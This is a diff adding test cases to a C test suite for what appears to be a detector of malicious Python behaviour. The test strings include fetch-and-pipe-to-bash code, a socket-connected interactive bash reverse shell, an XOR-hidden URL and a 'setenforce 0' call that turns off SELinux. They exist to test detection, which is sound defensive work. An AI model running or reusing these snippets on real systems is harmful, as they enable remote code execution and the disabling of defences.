@@ -560,6 +560,24 @@ static void by_other_means(void)
 	CHECK(is_ordinary("x = 'exec() runs a string'"));
 }
 
+/* A shell is told by its input, and by streams that a function is given. */
+static void told_by_input(void)
+{
+	CHECK(shows("import subprocess, requests\ndef run(c):\n"
+		    "  subprocess.run(['bash'], input=c)\n"
+		    "run(requests.get(u).content)", MPY_BEH_NETWORK_RUN, 4));
+	CHECK(shows("import subprocess, requests\n"
+		    "subprocess.run(['bash'], input=requests.get(u).content)",
+		    MPY_BEH_NETWORK_RUN, 2));
+	CHECK(shows("import socket, subprocess\ndef sh(c):\n"
+		    "  subprocess.Popen(['/bin/bash', '-i'], stdin=c, stdout=c)"
+		    "\ns = socket.socket()\ns.connect(a)\nsh(s)",
+		    MPY_BEH_RECV_RUN, 6));
+	CHECK(!shows("import base64, subprocess\n"
+		     "subprocess.run(['gpg', '-d'], input=base64.b64decode(x))",
+		     MPY_BEH_DECODE_RUN, 2));
+}
+
 /* Addresses, paths and commands that are encoded, and texts that are not. */
 static void hides_text(void)
 {
@@ -571,6 +589,13 @@ static void hides_text(void)
 		    MPY_BEH_HIDDEN_TEXT, 1));
 	CHECK(shows("u = ''.join(chr(c ^ 1) for c in [105, 117, 117, 113, 59, "
 		    "46, 46, 121])", MPY_BEH_HIDDEN_TEXT, 1));
+	CHECK(shows("s = ''\nfor c in [105, 117, 117, 113, 59, 46, 46, 121]:"
+		    "\n  s += chr(c ^ 1)\nget(s + '')",
+		    MPY_BEH_HIDDEN_TEXT, 4));
+	CHECK(!shows("u = '/'.join(['http://host', str(8000 + 1)])",
+		     MPY_BEH_HIDDEN_TEXT, 1));
+	CHECK(!shows("u = list(reversed(['https://x.invalid/a', 'b']))[1]",
+		     MPY_BEH_HIDDEN_TEXT, 1));
 	CHECK(!shows("u = 'http://x.invalid/{}'.format(n ^ 1)",
 		     MPY_BEH_HIDDEN_TEXT, 1));
 	CHECK(!shows("for n in range(3):\n  get(f'http://x.invalid/{n + 1}')",
@@ -596,6 +621,19 @@ static void as_lists(void)
 		     MPY_BEH_DESTROY, 2));
 	CHECK(!shows("import subprocess\nsubprocess.call(['crontab', '-l'])",
 		     MPY_BEH_PERSIST_CRON, 2));
+	CHECK(shows("import subprocess\n"
+		    "subprocess.Popen(args=['setenforce', '0'])",
+		    MPY_BEH_DEFENCE_OFF, 2));
+	CHECK(!shows("import subprocess as s\n"
+		     "s.call(['docker', 'exec', c, 'rm', '-rf', '/var'])",
+		     MPY_BEH_DESTROY, 2));
+	CHECK(!shows("import subprocess\n"
+		     "subprocess.run(['rm', '-rf', '/bootstrap'])",
+		     MPY_BEH_DESTROY, 2));
+	CHECK(!shows("import os, stat, urllib2\nd = open(P, 'wb')\n"
+		     "d.write(urllib2.urlopen(u).read())\n"
+		     "os.chmod(P, stat.S_IRUSR | stat.S_IWUSR)",
+		     MPY_BEH_DROP_CHMOD, 4));
 	CHECK(shows("import os, stat, urllib2\nd = open(P, 'wb')\n"
 		    "d.write(urllib2.urlopen(u).read())\n"
 		    "os.chmod(P, os.stat(P).st_mode | stat.S_IEXEC)",
@@ -648,6 +686,7 @@ int main(void)
 	RUN(told_by_tables);
 	RUN(but_seen);
 	RUN(by_other_means);
+	RUN(told_by_input);
 	RUN(hides_text);
 	RUN(as_lists);
 	RUN(names_are_complete);
